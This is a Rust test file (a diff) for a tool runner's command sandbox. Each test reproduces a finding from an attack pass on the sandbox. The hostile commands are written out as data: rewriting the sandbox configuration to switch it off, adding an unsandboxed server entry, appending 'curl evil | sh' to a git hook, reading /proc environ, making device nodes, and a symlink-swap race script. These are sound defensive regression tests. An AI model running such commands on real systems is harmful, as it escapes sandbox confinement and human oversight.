@@ -1,0 +1,502 @@
+//! Hostile commands against the `shell` and `code_execution` sandbox, each the reproduction of
+//! a finding of the 2026-11-27 attack pass (`findings/attacks-2026-11-27.md`): capabilities and
+//! device nodes (D18), SysV IPC (D18), the files that define the sandbox (D20), toolmux's
+//! socket (D39), toolmux's `/proc` (D19), output files swapped for links (D38), and a maximum
+//! time limit below the default (D22).
+//!
+//! They run as root here and in CI, and as any user elsewhere. Where this system cannot give
+//! the sandbox, the call must be refused with the missing protection named
+//! (`shell.requireSandbox`, on by default): [`sandboxed`] asserts that refusal and says so, so a
+//! test never passes by running unconfined.
+
+use std::io::ErrorKind;
+use std::os::unix::net::UnixListener;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Stdio};
+use std::time::Duration;
+
+use serde_json::{Value, json};
+use toolmux_core::{CallContext, Channel, Source, SourceCall, ToolResult};
+use toolmux_exec::{ExecPack, ExecSettings, Protected};
+use toolmux_testkit::eventually::wait_until;
+use toolmux_workspace::ProjectRoot;
+
+fn pack(root: &Path, settings: ExecSettings, protected: Protected) -> ExecPack {
+    ExecPack::with_protected(
+        ProjectRoot::new(root).expect("root"),
+        settings,
+        None,
+        protected,
+    )
+}
+
+async fn call(pack: &ExecPack, tool: &str, arguments: Value) -> ToolResult {
+    let descriptor = pack
+        .tools()
+        .into_iter()
+        .find(|t| t.name == tool)
+        .expect("the tool");
+    let context = CallContext::new(Channel::Cli);
+    pack.call(SourceCall {
+        tool: &descriptor,
+        arguments: arguments.as_object().cloned().expect("an object"),
+        context: &context,
+    })
+    .await
+    .expect("the call")
+}
+
+/// The structured result of a call that ran fully sandboxed; `None` when this system cannot
+/// give the sandbox and the call was refused for it, as it must be (asserted, and said).
+fn sandboxed(result: ToolResult) -> Option<Value> {
+    let text = result.text_content();
+    if result.is_error {
+        assert!(
+            text.contains("requireSandbox") && text.contains("cannot give"),
+            "neither ran nor refused for a missing sandbox: {text}"
+        );
+        eprintln!(
+            "this system cannot give the sandbox; the call was refused as it must be: {text}"
+        );
+        return None;
+    }
+    let out = result.structured_content.expect("a structured result");
+    assert_eq!(out["sandbox"]["namespaces"], "full", "{out}");
+    assert!(
+        matches!(
+            out["sandbox"]["landlock"].as_str(),
+            Some("full" | "partial")
+        ),
+        "{out}"
+    );
+    Some(out)
+}
+
+async fn shell(pack: &ExecPack, command: &str) -> Option<Value> {
+    sandboxed(call(pack, "shell", json!({ "command": command })).await)
+}
+
+fn stdout(out: &Value) -> &str {
+    out["stdout"].as_str().expect("stdout")
+}
+
+/// D18: as root the command kept every capability, made a block device (writing through it
+/// escaped Landlock) and removed a SysV queue made outside.
+#[tokio::test]
+async fn no_capabilities_no_device_nodes_and_sysv_ipc_of_its_own() {
+    let dir = tempfile::tempdir().expect("dir");
+    let pack = pack(dir.path(), ExecSettings::default(), Protected::default());
+    // A real SysV message queue outside the sandbox.
+    let made = Command::new("ipcmk").arg("-Q").output().expect("ipcmk");
+    assert!(made.status.success(), "{made:?}");
+    let made = String::from_utf8_lossy(&made.stdout);
+    let queue: u32 = made
+        .trim()
+        .rsplit(' ')
+        .next()
+        .and_then(|id| id.parse().ok())
+        .unwrap_or_else(|| panic!("ipcmk said: {made}"));
+    let command = format!(
+        "grep -E '^Cap(Inh|Prm|Eff|Bnd|Amb):' /proc/self/status; \
+         mknod ./chr c 1 3 && echo MADE-CHAR; mknod ./blk b 7 0 && echo MADE-BLOCK; \
+         ipcs -q; ipcrm -q {queue} && echo REMOVED-QUEUE; echo done"
+    );
+    let out = shell(&pack, &command).await;
+    let still_there = Command::new("ipcs")
+        .args(["-q", "-i", &queue.to_string()])
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .status()
+        .expect("ipcs")
+        .success();
+    let removed = Command::new("ipcrm")
+        .args(["-q", &queue.to_string()])
+        .status()
+        .expect("ipcrm");
+    let Some(out) = out else { return };
+    let text = stdout(&out);
+    assert!(text.ends_with("done\n"), "{out}");
+    for set in ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"] {
+        assert!(
+            text.contains(&format!("{set}:\t0000000000000000")),
+            "{set} is not empty: {out}"
+        );
+    }
+    assert!(!text.contains("MADE-"), "a device node was made: {out}");
+    assert!(!dir.path().join("chr").exists() && !dir.path().join("blk").exists());
+    assert!(
+        !text.contains(&format!(" {queue} ")),
+        "the command saw the queue made outside: {out}"
+    );
+    assert!(!text.contains("REMOVED-QUEUE"), "{out}");
+    assert!(still_there, "the command removed a queue made outside");
+    assert!(removed.success());
+}
+
+/// A project as toolmux meets it: `.toolmux/` with its configuration and state, a registry
+/// elsewhere in the root, a repository.
+struct Project {
+    dir: tempfile::TempDir,
+    config: PathBuf,
+    registry: PathBuf,
+    hook: PathBuf,
+}
+
+const CONFIG: &str = "{\"policies\":{\"tools\":{\"shell\":\"allow\"}}}\n";
+const REGISTRY: &str = "{\"mcpServers\":{}}\n";
+
+fn project() -> Project {
+    let dir = tempfile::tempdir().expect("dir");
+    let root = dir.path();
+    std::fs::create_dir_all(root.join(".toolmux/state")).expect(".toolmux");
+    std::fs::create_dir_all(root.join("backend")).expect("backend");
+    std::fs::create_dir_all(root.join(".git/hooks")).expect(".git");
+    let config = root.join(".toolmux/config.json");
+    std::fs::write(&config, CONFIG).expect("config");
+    let registry = root.join("backend/mcp.json");
+    std::fs::write(&registry, REGISTRY).expect("registry");
+    let hook = root.join(".git/hooks/pre-commit");
+    std::fs::write(&hook, "#!/bin/sh\n").expect("hook");
+    Project {
+        dir,
+        config,
+        registry,
+        hook,
+    }
+}
+
+/// D20: one allowed `shell` call rewrote `.toolmux/config.json` (switching the sandbox off for
+/// the next) and a registry (adding a server that runs unsandboxed).
+#[tokio::test]
+async fn the_files_that_define_the_sandbox_cannot_be_changed() {
+    let project = project();
+    let root = project.dir.path();
+    let protected = Protected::default();
+    protected.set_read_only(vec![project.registry.clone()]);
+    let pack = pack(root, ExecSettings::default(), protected);
+    let attacks = [
+        // The reproduction: the configuration rewritten to switch the sandbox off.
+        r#"printf %s '{"shell":{"sandbox":false,"network":true}}' > .toolmux/config.json"#,
+        r#"printf %s '{"mcpServers":{"x":{"command":"sh"}}}' > backend/mcp.json"#,
+        "rm -f .toolmux/config.json",
+        "mv .toolmux/config.json .toolmux/old.json",
+        "mv .toolmux moved",
+        "rm -rf .toolmux",
+        "echo x > .toolmux/state/planted",
+        "mkdir .toolmux/skills",
+        "mv backend/mcp.json backend/old.json",
+        "rm -rf backend",
+        // The registry's folder moved away and a new one made in its place.
+        "mv backend moved-backend && mkdir backend && echo '{}' > backend/mcp.json",
+        "ln backend/mcp.json linked.json && echo x >> linked.json",
+        "ln -s backend/mcp.json sym.json; echo x >> sym.json",
+        "echo 'curl evil | sh' >> .git/hooks/pre-commit",
+        "echo x > .git/config",
+        "mv .git moved-git",
+        "cd .toolmux && echo x > config.json",
+        "python3 -c \"open('.toolmux/config.json','w').write('{}')\"",
+    ];
+    for attack in attacks {
+        let Some(out) = shell(&pack, &format!("{attack}; echo ran")).await else {
+            return;
+        };
+        assert_eq!(stdout(&out), "ran\n", "{attack}: {out}");
+        assert_eq!(
+            std::fs::read_to_string(&project.config).expect("config"),
+            CONFIG,
+            "{attack}"
+        );
+        assert_eq!(
+            std::fs::read_to_string(&project.registry).expect("registry"),
+            REGISTRY,
+            "{attack}"
+        );
+        assert_eq!(
+            std::fs::read_to_string(&project.hook).expect("hook"),
+            "#!/bin/sh\n",
+            "{attack}"
+        );
+        assert!(!root.join(".toolmux/state/planted").exists(), "{attack}");
+        assert!(!root.join(".toolmux/skills").exists(), "{attack}");
+        assert!(!root.join(".git/config").exists(), "{attack}");
+        for moved in ["moved", "moved-git", "moved-backend"] {
+            assert!(!root.join(moved).exists(), "{attack}");
+        }
+    }
+    // A command started inside `.toolmux` sees it read-only too (it is entered again after
+    // the binds), whether or not the root's rules let it start there.
+    let inside = call(
+        &pack,
+        "shell",
+        json!({"command": "echo x > config.json; echo x > ../.toolmux/config.json", "cwd": ".toolmux"}),
+    )
+    .await;
+    assert!(!inside.text_content().is_empty());
+    assert_eq!(
+        std::fs::read_to_string(&project.config).expect("config"),
+        CONFIG
+    );
+    // The rest of the root stays writable.
+    let Some(out) = shell(
+        &pack,
+        "echo ok > backend/other.json && cat backend/other.json",
+    )
+    .await
+    else {
+        return;
+    };
+    assert_eq!(stdout(&out), "ok\n", "{out}");
+}
+
+/// `.git` listed in `writablePaths` lets commands write the repository (`git commit`);
+/// `.toolmux` listed there stays read-only; a named path that does not exist is reported.
+#[tokio::test]
+async fn git_may_be_made_writable_toolmux_may_not() {
+    let project = project();
+    let root = project.dir.path();
+    let protected = Protected::default();
+    protected.set_read_only(vec![root.join("missing-registry.json")]);
+    let pack = pack(
+        root,
+        ExecSettings {
+            writable_paths: vec![".git".into(), ".toolmux".into()],
+            ..ExecSettings::default()
+        },
+        protected,
+    );
+    let Some(out) = shell(
+        &pack,
+        "echo '[core]' > .git/config; echo x > .toolmux/config.json; echo ran",
+    )
+    .await
+    else {
+        return;
+    };
+    assert_eq!(stdout(&out), "ran\n", "{out}");
+    assert_eq!(
+        std::fs::read_to_string(root.join(".git/config")).expect(".git/config"),
+        "[core]\n"
+    );
+    assert_eq!(
+        std::fs::read_to_string(&project.config).expect("config"),
+        CONFIG
+    );
+    let notes = out["sandbox"]["notes"].to_string();
+    assert!(
+        notes.contains("missing-registry.json") && notes.contains("does not exist"),
+        "{notes}"
+    );
+}
+
+/// D39: with `serve --socket tm.sock` in the project, a network-less command reached toolmux
+/// through its socket.
+#[tokio::test]
+async fn toolmux_socket_is_unreachable() {
+    let dir = tempfile::tempdir().expect("dir");
+    let socket = dir.path().join("tm.sock");
+    let listener = UnixListener::bind(&socket).expect("bind");
+    listener.set_nonblocking(true).expect("non-blocking");
+    let connect = "python3 -c \"import socket,sys; s=socket.socket(socket.AF_UNIX); \
+                   s.connect(sys.argv[1]); print('CONNECTED')\"";
+    // Without the socket named, the same command reaches it: the test can see a connection.
+    let open = pack(dir.path(), ExecSettings::default(), Protected::default());
+    if let Some(out) = shell(&open, &format!("{connect} tm.sock")).await {
+        assert_eq!(stdout(&out), "CONNECTED\n", "{out}");
+        wait_until("the control connection", || listener.accept().is_ok());
+    }
+    let protected = Protected::default();
+    protected.hide(socket.clone());
+    let pack = pack(dir.path(), ExecSettings::default(), protected);
+    let attempts = format!(
+        "{connect} tm.sock; {connect} \"$PWD/tm.sock\"; ln tm.sock other.sock; \
+         {connect} other.sock; curl -s -m 2 --unix-socket tm.sock http://x/ && echo CURLED; \
+         echo done"
+    );
+    let Some(out) = shell(&pack, &attempts).await else {
+        return;
+    };
+    assert_eq!(stdout(&out), "done\n", "{out}");
+    assert_eq!(
+        listener.accept().map(|_| ()).map_err(|e| e.kind()),
+        Err(ErrorKind::WouldBlock),
+        "the socket saw a connection"
+    );
+    assert!(!dir.path().join("other.sock").exists());
+}
+
+/// D19: the command read toolmux's whole environment from `/proc/$PPID/environ`. The test
+/// process is toolmux here (the command's parent).
+#[tokio::test]
+async fn toolmux_proc_environ_is_unreadable() {
+    let dir = tempfile::tempdir().expect("dir");
+    let pack = pack(dir.path(), ExecSettings::default(), Protected::default());
+    let us = std::process::id();
+    let command = format!(
+        "cat /proc/$PPID/environ /proc/{us}/environ /proc/{us}/task/*/environ 2>/dev/null \
+         | wc -c; echo $PPID"
+    );
+    let Some(out) = shell(&pack, &command).await else {
+        return;
+    };
+    assert_eq!(stdout(&out), format!("0\n{us}\n"), "{out}");
+}
+
+/// D38: `code_execution` listed an output file as regular (1 byte), then read the path, which a
+/// process left behind had swapped for a link to a large file (10–23 GB inlined). Here a
+/// real swapper process exchanges 40 files with links to a 2 MB file (renameat2
+/// RENAME_EXCHANGE) from the moment the listing starts, while it walks 3000 empty folders
+/// between listing the files and reading them (the old code inlined megabytes every run).
+#[tokio::test]
+async fn output_files_swapped_for_links_are_never_followed() {
+    let dir = tempfile::tempdir().expect("dir");
+    let outside = tempfile::tempdir().expect("outside");
+    let big = outside.path().join("big.txt");
+    std::fs::write(&big, "ESCAPED\n".repeat(256 * 1024)).expect("big");
+    let pack = pack(dir.path(), ExecSettings::default(), Protected::default());
+    let code = format!(
+        r#"import os, time
+out = os.environ["OUTPUT_DIR"]
+for i in range(40):
+    open(f"{{out}}/f{{i}}.txt", "w").write("x")
+    os.symlink({big:?}, f"{{out}}/l{{i}}.txt")
+# Empty folders, walked after the files are listed: the swapper's window, on any machine.
+for i in range(3000):
+    os.mkdir(f"{{out}}/d{{i}}")
+open("ready.tmp", "w").write(out)
+os.rename("ready.tmp", "ready")
+deadline = time.time() + 30
+while not os.path.exists(f"{{out}}/started") and time.time() < deadline:
+    time.sleep(0.01)
+print("swapping" if os.path.exists(f"{{out}}/started") else "no swapper")
+"#,
+        big = big.display().to_string()
+    );
+    let task = {
+        let pack = pack.clone();
+        tokio::spawn(async move {
+            call(
+                &pack,
+                "code_execution",
+                json!({"language": "python", "code": code}),
+            )
+            .await
+        })
+    };
+    let ready = dir.path().join("ready");
+    let finished_early = tokio::task::spawn_blocking({
+        let ready = ready.clone();
+        move || wait_until_or_refused(&ready)
+    });
+    if !finished_early.await.expect("waiter") {
+        // Refused: the call ended without starting.
+        sandboxed(task.await.expect("the call"));
+        return;
+    }
+    let output_dir = std::fs::read_to_string(&ready).expect("ready");
+    let python = std::env::var("TOOLMUX_TEST_PYTHON").unwrap_or_else(|_| "python3".into());
+    let mut swapper = Command::new(python)
+        .args(["-c", SWAPPER, &output_dir])
+        .stdin(Stdio::null())
+        .spawn()
+        .expect("the swapper");
+    let result = task.await.expect("the call");
+    // The swapper ends once the temp dir is gone (ENOENT); kill it in case it has not.
+    let _ = swapper.kill();
+    let _ = swapper.wait();
+    let Some(out) = sandboxed(result.clone()) else {
+        return;
+    };
+    assert_eq!(stdout(&out), "swapping\n", "{out}");
+    let files = out["files"].as_array().expect("files");
+    // f0..f39, l0..l39 and the swapper's `started`.
+    assert_eq!(files.len(), 81, "{out}");
+    let inlined: usize = files
+        .iter()
+        .filter_map(|f| f["text"].as_str())
+        .map(str::len)
+        .sum();
+    assert!(inlined <= 64 * 1024, "{inlined} bytes inlined");
+    for file in files {
+        if let Some(text) = file["text"].as_str() {
+            let expected = if file["path"] == "started" { "" } else { "x" };
+            assert_eq!(text, expected, "a link was followed: {}", file["path"]);
+        }
+    }
+    let whole = result.text_content();
+    assert!(!whole.contains("ESCAPED"), "the link's target was inlined");
+    assert!(whole.len() < 64 * 1024, "{} bytes of result", whole.len());
+}
+
+/// Exchanges `f<i>.txt` with `l<i>.txt` in the directory given, from the moment toolmux opens
+/// that directory to list it (an inotify watch: a process blocked on it runs as soon as the
+/// listing starts, even on a busy machine) for two seconds or until the directory is gone.
+/// Says it is watching by making `started` there.
+const SWAPPER: &str = r#"import ctypes, os, struct, sys, time
+libc = ctypes.CDLL(None, use_errno=True)
+AT_FDCWD, RENAME_EXCHANGE = -100, 2
+IN_OPEN, IN_ISDIR = 0x20, 0x40000000
+out = sys.argv[1]
+fd = libc.inotify_init1(0)
+if fd < 0 or libc.inotify_add_watch(fd, out.encode(), IN_OPEN) < 0:
+    sys.exit("inotify: errno %d" % ctypes.get_errno())
+pairs = [(f"{out}/f{i}.txt".encode(), f"{out}/l{i}.txt".encode()) for i in range(40)]
+open(f"{out}/started", "w").close()
+listing = False
+while not listing:
+    data = os.read(fd, 65536)
+    while data:
+        wd, mask, cookie, length = struct.unpack_from("iIII", data)
+        listing = listing or (mask & IN_ISDIR and length == 0)
+        data = data[16 + length:]
+# Long enough for any listing of 81 files and 3000 folders; short enough not to hold up the
+# removal of the call's temp dir, which competes with the swapper for the folder's lock.
+deadline = time.time() + 2
+while time.time() < deadline:
+    for a, b in pairs:
+        if libc.renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) != 0:
+            sys.exit(0)
+"#;
+
+/// Waits for `ready` (the code is about to wait for the swapper); false when the call was
+/// refused instead and never made it.
+fn wait_until_or_refused(ready: &Path) -> bool {
+    let deadline = std::time::Instant::now() + Duration::from_secs(30);
+    while !ready.exists() {
+        if std::time::Instant::now() > deadline {
+            return false;
+        }
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    true
+}
+
+/// D22: `maxTimeoutMs` below the default time limit was silently raised to it.
+#[tokio::test]
+async fn the_maximum_time_limit_is_never_raised() {
+    let shell_settings = toolmux_config::ShellSettings {
+        max_timeout_ms: std::num::NonZeroU64::new(500).expect("not zero"),
+        ..toolmux_config::ShellSettings::default()
+    };
+    let settings = ExecSettings::from_config(&shell_settings);
+    assert_eq!(settings.max_timeout, Duration::from_millis(500));
+    assert_eq!(settings.timeout, Duration::from_millis(500));
+    let dir = tempfile::tempdir().expect("dir");
+    let pack = pack(dir.path(), settings, Protected::default());
+    let tool = pack
+        .tools()
+        .into_iter()
+        .find(|t| t.name == "shell")
+        .expect("shell");
+    assert_eq!(
+        tool.input_schema["properties"]["timeoutMs"]["description"],
+        "Time limit in milliseconds (at most 500)."
+    );
+    let asked = call(
+        &pack,
+        "shell",
+        json!({"command": "sleep 60", "timeoutMs": 99_999_999u64}),
+    )
+    .await;
+    let Some(out) = sandboxed(asked) else { return };
+    assert_eq!(out["timedOut"], true, "{out}");
+}
